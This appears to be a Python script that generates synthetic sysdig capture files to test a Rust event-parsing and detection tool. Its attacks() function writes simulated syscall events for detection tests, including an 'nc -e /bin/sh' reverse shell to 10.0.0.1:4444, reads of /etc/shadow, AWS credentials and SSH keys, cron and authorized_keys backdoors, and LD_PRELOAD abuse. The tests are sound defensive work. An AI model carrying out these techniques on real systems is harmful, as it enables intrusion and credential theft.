#!/usr/bin/env python3
"""Builds the synthetic captures of this directory: one per block layout or oddity that the
fixture captures do not hold (process lists V1 to V9 and their old block codes, version-1 and
flagged and large event blocks, unknown and pcapng blocks, concatenated sections, damaged
framing ...). crates/lanner/tests/synthetic.rs reads them; scripts/make-inspect-goldens records
what Debian's sysdig prints for those it opens.

The c*_container* captures hold processes in docker, containerd, cri-o and podman containers
and the container events that describe them; crates/lanner/tests/containers.rs compares their
container fields with sysdig's (scripts/make-container-goldens).

Run from anywhere: python3 testdata/scap-synthetic/make.py"""
import struct, gzip, os, json, hashlib

def pad4(n): return (4 - n % 4) % 4

def block(bt, body):
    p = pad4(len(body))
    tl = 8 + len(body) + p + 4
    return struct.pack('<II', bt, tl) + body + b'\0' * p + struct.pack('<I', tl)

def shb(minor=2, options=b''):
    return block(0x0A0D0D0A, struct.pack('<IHHq', 0x1A2B3C4D, 1, minor, -1) + options)

def mi(host=b'testhost', code=0x201, extra=b'', boot_ts=0, flags=0):
    body = struct.pack('<IQQ', 4, 8 << 30, 32768) + host.ljust(128, b'\0') + struct.pack('<4Q', boot_ts, flags, 0, 0)
    return block(code, body + extra)

def s16(b): return struct.pack('<H', len(b)) + b

def il_v2(entries):
    body = b''
    for name, addr in entries:
        e = struct.pack('<HHIIIQ', 1, len(name), addr, 0x00ffffff, 0, 1000) + name
        body += struct.pack('<I', len(e)) + e
    return block(0x219, body)

def il_v1(entries, typ=1):
    body = b''
    for name, addr in entries:
        if typ == 1:
            body += struct.pack('<HHIIIQ', 1, len(name), addr, 0x00ffffff, 0, 1000) + name
        else:
            body += struct.pack('<HHIII', 3, len(name), addr, 0x00ffffff, 0) + name
    return block(0x205, body)

def ul_v2(users, groups):
    body = b''
    for uid, gid, name, home, shell in users:
        e = b'\0' + struct.pack('<II', uid, gid) + s16(name) + s16(home) + s16(shell)
        body += struct.pack('<I', 4 + len(e)) + e
    for gid, name in groups:
        e = b'\1' + struct.pack('<I', gid) + s16(name)
        body += struct.pack('<I', 4 + len(e)) + e
    return block(0x220, body)

def pl_v9_entry(tid, pid, comm, exe, args=b'', cwd=b'/', uid=0, gid=0, loginuid=1000, tail='2022',
                cgroups=b'', env=b'', root=b'/', pidns_init_start_ts=0x1111111122222222):
    e = struct.pack('<QQQQQ', tid, pid, 1, pid, pid)
    e += s16(comm) + s16(exe) + s16(exe) + s16(args) + s16(cwd)
    e += struct.pack('<QIII', 1024, 0, uid, gid)
    e += struct.pack('<IIIQQ', 100, 50, 0, 0, 0)
    e += s16(env) + struct.pack('<qq', tid, pid) + s16(cgroups) + s16(root)
    if tail == '2022':      # what libs 2022-03 writes after root
        e += struct.pack('<IB', loginuid, 0)
    elif tail == 'modern':  # libs >= 0.10: pidns_init_start_ts, tty, loginuid, exe_writable, caps, upper, ino x3
        e += struct.pack('<QiIB', pidns_init_start_ts, 0, loginuid, 0) + struct.pack('<QQQ', 0, 0, 0)
        e += struct.pack('<BQQQ', 0, 0, 0, 0)
    elif tail == 'none':
        pass
    return struct.pack('<I', 4 + len(e)) + e

def pl_v9(entries): return block(0x215, b''.join(entries))

def fd_entry_v2(fd, ino, typ, info):
    e = struct.pack('<QQB', fd, ino, typ) + info
    return struct.pack('<I', 4 + len(e)) + e

def fdl_v2(tid, entries): return block(0x218, struct.pack('<Q', tid) + b''.join(entries))

def ev_v2(ts, tid, typ, params, cpuid=0, large=False, flags=None, block_type=None):
    lens = b''.join(struct.pack('<I' if large else '<H', len(p)) for p in params)
    data = b''.join(params)
    ln = 26 + len(lens) + len(data)
    ev = struct.pack('<QQIHI', ts, tid, ln, typ, len(params)) + lens + data
    if block_type is None:
        block_type = 0x216 if flags is None else 0x217
    pre = struct.pack('<H', cpuid) + (struct.pack('<I', flags) if flags is not None else b'')
    return block(block_type, pre + ev)

def ev_v1(ts, tid, typ, params, cpuid=0, flags=None):
    lens = b''.join(struct.pack('<H', len(p)) for p in params)
    data = b''.join(params)
    ln = 22 + len(lens) + len(data)
    ev = struct.pack('<QQIH', ts, tid, ln, typ) + lens + data
    bt = 0x204 if flags is None else 0x208
    pre = struct.pack('<H', cpuid) + (struct.pack('<I', flags) if flags is not None else b'')
    return block(bt, pre + ev)

TS = 1_600_000_000_000_000_000
def close_pair(tid=1234, ts=TS, v1=False, **kw):
    f = ev_v1 if v1 else ev_v2
    return (f(ts, tid, 4, [struct.pack('<q', 3)], **kw) +
            f(ts + 1000, tid, 5, [struct.pack('<q', 0)], **kw))

def header(pl_tail='2022'):
    return (shb() + mi() + il_v2([(b'lo', 0x0100007f)]) +
            ul_v2([(0, 0, b'root', b'/root', b'/bin/sh'), (1000, 1000, b'alice', b'/home/alice', b'/bin/bash')],
                  [(0, b'root'), (1000, b'alice')]) +
            pl_v9([pl_v9_entry(1234, 1234, b'myproc', b'/usr/bin/myproc', args=b'-x\0', loginuid=1000, tail=pl_tail)]) +
            fdl_v2(1234, [fd_entry_v2(3, 99, 16, struct.pack('<I', 0) + s16(b'/etc/passwd') + struct.pack('<I', 0x803))]))

HERE = os.path.dirname(os.path.abspath(__file__))

def write(name, data, gz=False):
    path = os.path.join(HERE, name)
    if gz:
        with gzip.open(path, 'wb') as f: f.write(data)
    else:
        open(path, 'wb').write(data)
    return path

def main():
    T = {}
    T['t01_full'] = header() + close_pair()
    T['t02_shb_ev_only'] = shb() + close_pair()
    T['t03_shb_only'] = shb()
    T['t04_header_no_events'] = header()
    T['t05_unknown_blocks_in_header'] = (shb() + block(0x1234, b'abcdefg') + block(0x00000005, b'\0' * 20) +
                                        mi() + block(0x40000BAD, b'xyz') + close_pair())
    T['t06_unknown_block_after_events'] = header() + close_pair() + block(0x1234, b'abcd') + close_pair(ts=TS + 10**6)
    T['t07_ev_v1'] = header() + close_pair(v1=True)
    T['t08_evf_v2'] = header() + close_pair(flags=1)
    T['t09_ev_v2_large_block'] = header() + close_pair(block_type=0x221)
    T['t10_pl_modern_tail'] = header('modern') + close_pair()
    T['t11_shb_with_options'] = shb(options=struct.pack('<HH', 1, 4) + b'abcd' + b'\0' * 4) + mi() + close_pair()
    T['t12_mi_bigger_body'] = shb() + mi(extra=b'\0' * 8) + close_pair()
    T['t13_fdl_unknown_tid'] = header() + fdl_v2(999, [fd_entry_v2(5, 1, 1, s16(b'/tmp/x'))]) + close_pair()
    T['t14_fd_type_bpf'] = header() + fdl_v2(1234, [fd_entry_v2(7, 1, 17, s16(b'bpf'))]) + close_pair()
    T['t15_concatenated'] = header() + close_pair() + header() + close_pair(ts=TS + 10**6)
    T['t16_mi_int_code'] = shb() + mi(code=0x8002ABCD, host=b'intcode') + close_pair()
    T['t17_ev_type_ge_336'] = header() + ev_v2(TS, 1234, 400, [b'x']) + close_pair(ts=TS + 5)
    T['t18_il_v1_nolinkspeed'] = shb() + il_v1([(b'eth0', 0x0a000001)], typ=3) + close_pair()
    T['t19_ev_v2_over_64k'] = header() + ev_v2(TS, 1234, 9, [struct.pack('<q', 0), b'A' * 65000, ]) + close_pair(ts=TS + 5)
    T['t20_ev_v2_large_over_64k'] = header() + ev_v2(TS, 1234, 9, [struct.pack('<q', 0), b'A' * 65000], block_type=0x221) + close_pair(ts=TS + 5)
    T['t21_pl_tail_none'] = header('none') + close_pair()
    T['t22_ev_v2_nparams_lt_table'] = header() + ev_v2(TS, 1234, 3, [struct.pack('<q', 3), b'/etc/x\0']) + close_pair(ts=TS + 5)
    T['t23_event_with_pcapng_option'] = header() + block(0x216, (lambda ev: ev)(
        ev_v2(TS, 1234, 4, [struct.pack('<q', 3)])[8:-4] + struct.pack('<HH', 1, 5) + b'hello\0\0\0' + b'\0' * 4))
    T['t24_only_mi_pl_fdl'] = shb() + mi() + pl_v9([pl_v9_entry(1234, 1234, b'myproc', b'/usr/bin/myproc')]) + close_pair()
    for k, v in T.items():
        write(k + '.scap', v)
        write(k + '.scap.gz', v, gz=True)
    return sorted(T)

def extra():
    T = {}
    big = b'B' * 70000
    T['t25_plugin_ev_in_ev_v2_over_64k'] = header() + ev_v2(TS, 1234, 322, [struct.pack('<I', 999), big], large=True) + close_pair(ts=TS + 5)
    T['t26_plugin_ev_in_ev_v2_large_over_64k'] = header() + ev_v2(TS, 1234, 322, [struct.pack('<I', 999), big], large=True, block_type=0x221) + close_pair(ts=TS + 5)
    T['t27_evf_v2_flags0'] = header() + close_pair(flags=0)
    T['t28_evf_v2_flags2'] = header() + close_pair(flags=2)
    T['t29_v1_nparams_short'] = header() + ev_v1(TS, 1234, 3, [struct.pack('<q', 3), b'/etc/x\0']) + close_pair(ts=TS + 5)
    T['t30_section_minor0'] = shb(minor=0) + header()[len(shb()):] + close_pair()
    T['t31_major2'] = block(0x0A0D0D0A, struct.pack('<IHHq', 0x1A2B3C4D, 2, 0, -1)) + close_pair()
    T['t32_bad_magic'] = block(0x0A0D0D0A, struct.pack('<IHHq', 0x4D3C2B1A, 1, 2, -1)) + close_pair()
    T['t33_bad_trailer'] = shb() + mi()[:-4] + struct.pack('<I', 1) + close_pair()
    T['t34_event_bad_trailer'] = header() + close_pair()[:-4] + struct.pack('<I', 12345)
    T['t35_pl_before_mi_order'] = shb() + pl_v9([pl_v9_entry(1234, 1234, b'myproc', b'/usr/bin/myproc')]) + mi() + close_pair()
    T['t36_trailing_garbage_3bytes'] = header() + close_pair() + b'abc'
    for k, v in T.items():
        write(k + '.scap', v)
    return sorted(T)


def process_lists():
    def pl_entry(lvl, tid=1234, pid=1234):
        e = struct.pack('<QQQ', tid, pid, 1)
        if lvl >= 6: e += struct.pack('<Q', pid)          # sid
        if lvl >= 8: e += struct.pack('<Q', pid)          # vpgid
        e += s16(b'myproc') + s16(b'/usr/bin/myproc')
        if lvl >= 7: e += s16(b'/usr/bin/myproc')         # exepath
        e += s16(b'-x\0') + s16(b'/tmp')
        e += struct.pack('<QIII', 1024, 0, 1000, 1000)
        if lvl >= 2: e += struct.pack('<IIIQQ', 100, 50, 0, 0, 0)
        if lvl >= 3: e += s16(b'HOME=/root\0')
        if lvl >= 4: e += struct.pack('<qq', tid, pid) + s16(b'cpu=/\0')
        if lvl >= 5: e += s16(b'/')
        if lvl == 9: e = struct.pack('<I', 4 + len(e)) + e
        return e
    codes = {1: [0x202, 0x8000ABCD], 2: [0x207, 0x8013ABCD], 3: [0x209, 0x8014ABCD], 4: [0x210], 5: [0x211], 6: [0x212], 7: [0x213], 8: [0x214], 9: [0x215]}
    for lvl, cs in codes.items():
        for c in cs:
            data = shb() + block(c, pl_entry(lvl) + pl_entry(lvl, tid=1235)) + block(0x203, struct.pack('<Q', 1234) + struct.pack('<QQB', 3, 9, 1) + s16(b'/etc/hosts')) + close_pair()
            write('pl_v%d_%x.scap' % (lvl, c), data)
    # IL/UL INT codes and UL V1
    ul1 = block(0x8012ABCD, b'\0' + struct.pack('<II', 1000, 1000) + s16(b'alice') + s16(b'/home/alice') + s16(b'/bin/sh') + b'\1' + struct.pack('<I', 1000) + s16(b'alice'))
    il1 = block(0x8011ABCD, struct.pack('<HH', 2, 2) + b'\0'*15 + b'\1' + b'\xff'*16 + b'\0'*16 + struct.pack('<Q', 0) + b'lo')
    write('ul_il_int.scap', shb() + il1 + ul1 + block(0x215, pl_entry(9)) + close_pair())


# --- containers -------------------------------------------------------------------------------

def full_id(name):
    """A container's 64-hex id, made up from its name."""
    return hashlib.sha256(name.encode()).hexdigest()

NO_TID = -1 & 0xffffffffffffffff  # container events belong to no thread

def container_json(c, version=2, ts=TS):
    """A container event with libs' JSON ({"container": {...}}): version 2 is
    PPME_CONTAINER_JSON_2_E (large payload, what libs and the plugin write), 1 is
    PPME_CONTAINER_JSON_E."""
    text = (json.dumps({'container': c}, sort_keys=True) + '\0').encode()
    if version == 2:
        return ev_v2(ts, NO_TID, 324, [text], large=True)
    return ev_v2(ts, NO_TID, 272, [text])

def container_e(cid, ctype, name, image, ts=TS):
    """The container event before JSON (PPME_CONTAINER_E): id, type, name, image."""
    return ev_v2(ts, NO_TID, 228, [cid.encode() + b'\0', struct.pack('<I', ctype), name + b'\0', image + b'\0'])

def openat_x(ts, tid, fd, path):
    """An openat exit with the 6 parameters libs 2022 has (sysdig 0.29.3 crashes on fewer)."""
    return ev_v2(ts, tid, 307, [struct.pack('<q', fd), struct.pack('<q', -100), path + b'\0',
                                struct.pack('<I', 1), struct.pack('<I', 0), struct.pack('<I', 0)])

def file_io(ts, tid, path, fd=5):
    """openat then close: fd.name, fd.containername, fd.containerdirectory have values."""
    return (openat_x(ts, tid, fd, path) + ev_v2(ts + 100, tid, 4, [struct.pack('<q', fd)]) +
            ev_v2(ts + 200, tid, 5, [struct.pack('<q', 0)]))

def clone_child(ts, tid, ptid, comm, cgroups):
    """The child's own clone exit (res=0), with the 20 parameters of libs 2022."""
    q = lambda v: struct.pack('<q', v)
    u = lambda v: struct.pack('<I', v)
    return ev_v2(ts, tid, 223, [q(0), b'/bin/sh\0', b'-c\0', q(tid), q(tid), q(ptid), b'/\0', q(1024),
                                q(0), q(0), u(0), u(0), u(0), comm + b'\0', cgroups, u(0), u(0), u(0), q(1), q(1)])

def execve_x(ts, tid, ptid, exe, comm, cgroups):
    """A successful execve exit, version 18 (17 parameters, up to tty): its parameters render
    alike in libs 2022 and today, unlike version 19's."""
    q = lambda v: struct.pack('<q', v)
    u = lambda v: struct.pack('<I', v)
    return ev_v2(ts, tid, 289, [q(0), exe + b'\0', b'', q(tid), q(tid), q(ptid), b'/\0', q(1024),
                                q(0), q(0), u(0), u(0), u(0), comm + b'\0', cgroups, b'', u(0)])

def cg(*paths):
    return b''.join(p.encode() + b'\0' for p in paths)

DOCKER = full_id('web')
SANDBOX = full_id('coredns-pod')
COREDNS = full_id('coredns')
KUBE_PROXY = full_id('kube-proxy')
PODMAN = full_id('podman')
UNKNOWN = full_id('unknown')
OLD = full_id('old')
LATER = full_id('later')
POD_UID = '3e41dc6b-08a8-44db-bc2a-3724b18ab19a'
START = TS - 3600 * 10**9  # the containers' pid namespaces started an hour before

def k8s_labels(pod, ns, uid, name):
    return {'io.kubernetes.container.name': name, 'io.kubernetes.pod.name': pod,
            'io.kubernetes.pod.namespace': ns, 'io.kubernetes.pod.uid': uid}

def containers():
    """Processes in containers of every runtime, described by container events at the start of
    the capture (as libs writes them when a capture starts) or later (as containers start)."""
    pl = [
        pl_v9_entry(100, 100, b'sshd', b'/usr/sbin/sshd', cgroups=cg('cpu=/system.slice/ssh.service'),
                    tail='modern', pidns_init_start_ts=TS - 86400 * 10**9),
        pl_v9_entry(200, 200, b'nginx', b'/usr/sbin/nginx', cgroups=cg('cpuset=/docker/' + DOCKER, 'cpu=/docker/' + DOCKER),
                    tail='modern', pidns_init_start_ts=START),
        pl_v9_entry(300, 300, b'coredns', b'/coredns', tail='modern', pidns_init_start_ts=START, cgroups=cg(
            'cpu=/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod%s.slice/cri-containerd-%s.scope'
            % (POD_UID.replace('-', '_'), COREDNS))),
        pl_v9_entry(310, 310, b'pause', b'/pause', tail='modern', pidns_init_start_ts=START, cgroups=cg(
            'cpu=/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod%s.slice/cri-containerd-%s.scope'
            % (POD_UID.replace('-', '_'), SANDBOX))),
        pl_v9_entry(400, 400, b'kube-proxy', b'/usr/local/bin/kube-proxy', tail='modern', pidns_init_start_ts=START,
                    cgroups=cg('cpu=/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod1.slice/crio-%s.scope' % KUBE_PROXY)),
        pl_v9_entry(500, 500, b'sh', b'/bin/sh', tail='modern', pidns_init_start_ts=START,
                    cgroups=cg('cpu=/machine.slice/libpod-%s.scope' % PODMAN)),
        pl_v9_entry(600, 600, b'redis-server', b'/usr/bin/redis-server', tail='modern', pidns_init_start_ts=START,
                    cgroups=cg('cpu=/docker/' + UNKNOWN)),
        pl_v9_entry(700, 700, b'busybox', b'/bin/busybox', tail='modern', pidns_init_start_ts=START,
                    cgroups=cg('cpu=/system.slice/docker-%s.scope' % OLD)),
    ]
    meta = [
        container_json({
            'id': DOCKER[:12], 'full_id': DOCKER, 'type': 0, 'name': 'web', 'image': 'nginx:1.25',
            'imagerepo': 'nginx', 'imagetag': '1.25', 'imageid': full_id('nginx-image'),
            'imagedigest': 'sha256:' + full_id('nginx-digest'), 'privileged': True,
            'host_pid': False, 'host_network': False, 'host_ipc': False, 'ip': '172.17.0.2',
            'cni_json': '', 'is_pod_sandbox': False, 'pod_sandbox_id': '', 'pod_sandbox_labels': None,
            'created_time': 1599996400, 'lookup_state': 1, 'User': '',
            'labels': {'maintainer': 'NGINX Docker Maintainers', 'com.example.empty': ''},
            'Mounts': [
                {'Source': '/var/run/docker.sock', 'Destination': '/var/run/docker.sock', 'Mode': '',
                 'RW': True, 'Propagation': 'rprivate'},
                {'Source': '/srv/www', 'Destination': '/usr/share/nginx/html', 'Mode': 'ro',
                 'RW': False, 'Propagation': 'rprivate'},
                {'Source': '/etc', 'Destination': '/host/etc', 'Mode': 'ro', 'RW': False, 'Propagation': ''},
            ],
            'env': [], 'port_mappings': [{'HostIp': 0, 'HostPort': 8080, 'ContainerPort': 80}],
            'memory_limit': 0, 'swap_limit': 0, 'cpu_shares': 1024, 'cpu_quota': 0, 'cpu_period': 100000,
            'cpuset_cpu_count': 0, 'metadata_deadline': 0,
        }),
        container_json({
            'id': SANDBOX[:12], 'full_id': SANDBOX, 'type': 7, 'name': 'coredns-5d78c9869d-x7k2p',
            'image': 'registry.k8s.io/pause:3.9', 'imagerepo': 'registry.k8s.io/pause', 'imagetag': '3.9',
            'imageid': full_id('pause-image'), 'imagedigest': '', 'privileged': False,
            'is_pod_sandbox': True, 'pod_sandbox_id': SANDBOX, 'ip': '10.244.0.5',
            'cni_json': '{"eth0":{"IPConfigs":[{"IP":"10.244.0.5"}]}}', 'lookup_state': 1,
            'labels': k8s_labels('coredns-5d78c9869d-x7k2p', 'kube-system', POD_UID, 'POD'),
            'pod_sandbox_labels': {'k8s-app': 'kube-dns', 'pod-template-hash': '5d78c9869d', 'tier': 'dns'},
            'Mounts': [],
        }),
        container_json({
            'id': COREDNS[:12], 'full_id': COREDNS, 'type': 7, 'name': 'coredns',
            'image': 'registry.k8s.io/coredns/coredns:v1.10.1', 'imagerepo': 'registry.k8s.io/coredns/coredns',
            'imagetag': 'v1.10.1', 'imageid': full_id('coredns-image'),
            'imagedigest': 'sha256:' + full_id('coredns-digest'), 'privileged': False,
            'is_pod_sandbox': False, 'pod_sandbox_id': SANDBOX, 'ip': '', 'cni_json': '', 'lookup_state': 1,
            'labels': k8s_labels('coredns-5d78c9869d-x7k2p', 'kube-system', POD_UID, 'coredns'),
            'pod_sandbox_labels': {'k8s-app': 'kube-dns'},
            'Mounts': [
                {'Source': '/var/lib/kubelet/pods/%s/volumes/kubernetes.io~configmap/config-volume' % POD_UID,
                 'Destination': '/etc/coredns', 'Mode': '', 'RW': False, 'Propagation': 'rprivate'},
            ],
        }),
        container_json({
            'id': KUBE_PROXY[:12], 'type': 8, 'name': 'k8s_kube-proxy_kube-proxy-8xv2q_kube-system_1_0',
            'image': 'registry.k8s.io/kube-proxy:v1.28.2', 'imagerepo': 'registry.k8s.io/kube-proxy',
            'imagetag': 'v1.28.2', 'privileged': True, 'host_network': True, 'host_pid': False,
            'ip': '192.168.49.2', 'cni_json': '{"eth0":{}}', 'lookup_state': 1, 'pod_sandbox_id': full_id('kube-proxy-pod'),
            'labels': k8s_labels('kube-proxy-8xv2q', 'kube-system', 'a1b2c3d4-0000-4000-8000-000000000001', 'kube-proxy'),
            'pod_sandbox_labels': {'k8s-app': 'kube-proxy', 'controller-revision-hash': '7b9d'},
            'Mounts': [
                {'Source': '/run/xtables.lock', 'Destination': '/run/xtables.lock', 'Mode': '', 'RW': True, 'Propagation': ''},
                {'Source': '/lib/modules', 'Destination': '/lib/modules', 'Mode': 'ro', 'RW': False, 'Propagation': ''},
                {'Source': '/var/lib/kubelet/pki', 'Destination': '/var/lib/kubelet/pki', 'Mode': '', 'RW': False, 'Propagation': ''},
            ],
        }, version=1),
        container_json({
            'id': PODMAN[:12], 'full_id': PODMAN, 'type': 11, 'name': 'quirky_turing',
            'image': 'docker.io/library/alpine:3.19', 'imagerepo': '', 'imagetag': '', 'privileged': False,
            'lookup_state': 1, 'labels': {}, 'Mounts': None,
        }),
        container_e(OLD[:12], 0, b'old_event', b'busybox:1.36'),
    ]
    t = TS
    evs = b''
    for tid, path in [(100, b'/etc/ssh/sshd_config'), (200, b'/etc/nginx/nginx.conf'),
                      (300, b'/etc/coredns/Corefile'), (310, b'/pause'), (400, b'/lib/modules/6.1.0/modules.dep'),
                      (500, b'/etc/alpine-release'), (600, b'/data/dump.rdb'), (700, b'/bin/busybox')]:
        evs += file_io(t, tid, path); t += 10**6
    # A worker the nginx master starts: the child's own clone exit carries its cgroups.
    evs += clone_child(t, 210, 200, b'nginx', cg('cpuset=/docker/' + DOCKER, 'cpu=/docker/' + DOCKER)); t += 10**6
    evs += file_io(t, 210, b'/var/log/nginx/access.log'); t += 10**6
    # `docker exec`: a host process execs into the container's cgroups.
    evs += clone_child(t, 800, 100, b'sshd', cg('cpu=/system.slice/ssh.service')); t += 10**6
    evs += execve_x(t, 800, 100, b'/bin/cat', b'cat', cg('cpuset=/docker/' + DOCKER, 'cpu=/docker/' + DOCKER)); t += 10**6
    evs += file_io(t, 800, b'/etc/passwd'); t += 10**6
    T = {}
    T['c01_containers'] = header_for(pl) + b''.join(meta) + evs
    # Metadata arriving while the capture runs: events before it see only the id.
    later = {'id': LATER[:12], 'full_id': LATER, 'type': 0, 'name': 'late_bloomer', 'image': 'postgres:16',
             'imagerepo': 'postgres', 'imagetag': '16', 'privileged': False, 'lookup_state': 1,
             'labels': {}, 'Mounts': [{'Source': '/srv/pg', 'Destination': '/var/lib/postgresql/data',
                                       'Mode': '', 'RW': True, 'Propagation': 'rprivate'}]}
    pl = [pl_v9_entry(100, 100, b'bash', b'/bin/bash', cgroups=cg('cpu=/user.slice'), tail='modern'),
          pl_v9_entry(900, 900, b'postgres', b'/usr/lib/postgresql/16/bin/postgres', tail='modern',
                      pidns_init_start_ts=START, cgroups=cg('cpu=/docker/' + LATER))]
    t = TS
    evs = file_io(t, 900, b'/var/lib/postgresql/data/PG_VERSION')
    evs += container_json(later, ts=t + 10**6)
    evs += file_io(t + 2 * 10**6, 900, b'/var/lib/postgresql/data/postgresql.conf')
    later.update(name='renamed', privileged=True)
    evs += container_json(later, ts=t + 3 * 10**6)
    evs += file_io(t + 4 * 10**6, 900, b'/var/lib/postgresql/data/pg_hba.conf')
    T['c02_container_metadata_later'] = header_for(pl) + evs
    # A container event whose JSON does not parse: sysdig 0.29.3 stops there; lanner counts it
    # and goes on.
    T['c03_container_bad_json'] = (header_for(pl) + file_io(t, 900, b'/etc/hosts') +
                                   ev_v2(t + 10**6, NO_TID, 324, [b'{"container": {"id": \0'], large=True) +
                                   file_io(t + 2 * 10**6, 900, b'/etc/hostname'))
    for k, v in T.items():
        write(k + '.scap', v)
    return sorted(T)

def execve_full(ts, tid, ptid, exe, comm, args=b'', env=b'', tty=0, cgroups=b''):
    """A successful execve exit (version 18) with arguments, environment and terminal."""
    q = lambda v: struct.pack('<q', v)
    u = lambda v: struct.pack('<I', v)
    return ev_v2(ts, tid, 289, [q(0), exe + b'\0', args, q(tid), q(tid), q(ptid), b'/\0', q(1024),
                                q(0), q(0), u(0), u(0), u(0), comm + b'\0', cgroups, env, u(tty)])

def open_write(ts, tid, fd, path):
    """openat exit, O_WRONLY|O_CREAT (libs' PPM_O_* flags: 2 | 4)."""
    return ev_v2(ts, tid, 307, [struct.pack('<q', fd), struct.pack('<q', -100), path + b'\0',
                                struct.pack('<I', 6), struct.pack('<I', 0o644), struct.pack('<I', 0)])

def attacks():
    """a01_attacks: one event per technique lanner's default rules (rules/lanner_rules.yaml)
    detect, each meant to raise exactly one rule; crates/lanner/tests/default_rules.rs checks
    which rules fire and how often."""
    docker = cg('cpu=/docker/' + DOCKER)
    procs = [
        pl_v9_entry(100, 100, b'bash', b'/bin/bash', loginuid=1000),
        pl_v9_entry(200, 200, b'nginx', b'/usr/sbin/nginx'),
        pl_v9_entry(300, 300, b'cat', b'/usr/bin/cat', args=b'/etc/shadow\0'),
        pl_v9_entry(400, 400, b'curl', b'/usr/bin/curl'),
        pl_v9_entry(500, 500, b'sh', b'/bin/sh', cgroups=docker),
        pl_v9_entry(600, 600, b'exploit', b'/home/alice/exploit', uid=1000, gid=1000, loginuid=1000),
    ]
    t = TS
    def step():
        nonlocal t
        t += 1_000_000
        return t
    ev = b''
    # Execution
    ev += execve_full(step(), 101, 100, b'/tmp/payload', b'payload')
    ev += clone_child(step(), 201, 200, b'nginx', b'')
    ev += execve_full(step(), 201, 200, b'/bin/bash', b'bash', args=b'-c\0id\0')
    ev += execve_full(step(), 102, 100, b'/usr/bin/nc', b'nc', args=b'-e\0/bin/sh\0' + b'10.0.0.1\0' + b'4444\0')
    ev += execve_full(step(), 103, 100, b'/opt/xmrig', b'xmrig')
    ev += execve_full(step(), 104, 100, b'/usr/bin/ls', b'ls', env=b'LD_PRELOAD=/opt/hook.so\0')
    ev += execve_full(step(), 105, 100, b'/usr/bin/find', b'find', args=b'/\0-name\0id_rsa\0')
    ev += execve_full(step(), 106, 100, b'/usr/sbin/iptables', b'iptables', args=b'-F\0')
    # Containers: an interactive shell, a package manager
    ev += clone_child(step(), 501, 500, b'sh', docker)
    ev += execve_full(step(), 501, 500, b'/bin/bash', b'bash', tty=34816, cgroups=docker)
    ev += clone_child(step(), 502, 500, b'sh', docker)
    ev += execve_full(step(), 502, 500, b'/usr/bin/apt-get', b'apt-get', args=b'install\0nmap\0', cgroups=docker)
    # Credential access
    ev += openat_x(step(), 300, 3, b'/etc/shadow')
    ev += openat_x(step(), 400, 4, b'/root/.aws/credentials')
    # Persistence and tampering
    ev += open_write(step(), 400, 5, b'/etc/evil.conf')
    ev += open_write(step(), 400, 6, b'/usr/bin/evil')
    ev += open_write(step(), 100, 7, b'/root/.ssh/authorized_keys')
    ev += open_write(step(), 100, 8, b'/etc/ld.so.preload')
    ev += open_write(step(), 100, 9, b'/home/alice/.bashrc')
    q = lambda v: struct.pack('<q', v)
    u = lambda v: struct.pack('<I', v)
    # chmod u+s (PPM_S_ISUID | rwx for the owner)
    ev += ev_v2(step(), 100, 315, [q(0), b'/tmp/rootsh\0', u(2048 | 256 | 128 | 64)])
    # ptrace(PTRACE_ATTACH): the request is in the enter half, folded into the exit
    ev += ev_v2(step(), 100, 168, [struct.pack('<H', 11), q(300)])
    ev += ev_v2(step(), 100, 169, [q(0), q(0), q(0)])
    # a symlink to /etc/shadow, a history file removed
    ev += ev_v2(step(), 100, 181, [q(0), b'/etc/shadow\0', q(-100), b'/tmp/s\0'])
    ev += ev_v2(step(), 100, 303, [q(0), q(-100), b'/root/.bash_history\0', u(0)])
    # a process of a user who logged in as uid 1000 becomes root through setuid(0)
    ev += ev_v2(step(), 600, 198, [u(0)])
    ev += ev_v2(step(), 600, 199, [q(0)])
    # setns by a program that is no container runtime, a mount inside a container
    ev += ev_v2(step(), 100, 240, [q(3), u(0)])
    ev += ev_v2(step(), 100, 241, [q(0)])
    ev += ev_v2(step(), 500, 257, [q(0), b'/dev/sda1\0', b'/mnt\0', b'ext4\0'])
    # an SSH private key read, writes below /boot and into cron, a log truncated (O_WRONLY|O_TRUNC)
    ev += openat_x(step(), 400, 10, b'/root/.ssh/id_ed25519')
    ev += open_write(step(), 400, 11, b'/boot/vmlinuz-evil')
    ev += open_write(step(), 100, 12, b'/etc/cron.d/backdoor')
    ev += ev_v2(step(), 100, 307, [q(13), q(-100), b'/var/log/auth.log\0', u(2 | 256), u(0), u(0)])
    # sudo inside the container
    ev += clone_child(step(), 503, 500, b'sh', docker)
    ev += execve_full(step(), 503, 500, b'/usr/bin/sudo', b'sudo', args=b'-i\0', cgroups=docker)
    return header_for(procs) + ev

def header_for(pl_entries):
    return (shb() + mi() + il_v2([(b'lo', 0x0100007f)]) +
            ul_v2([(0, 0, b'root', b'/root', b'/bin/sh')], [(0, b'root')]) + pl_v9(pl_entries))


if __name__ == '__main__':
    # gzip output must not depend on when it ran: no timestamp in the header.
    import time
    _real_gzip_open = gzip.open
    def _gzip_open(path, mode='rb', **kw):
        return gzip.GzipFile(filename='', mode=mode, fileobj=open(path, mode), mtime=0)
    gzip.open = _gzip_open
    main()
    extra()
    process_lists()
    containers()
    write('a01_attacks.scap', attacks())
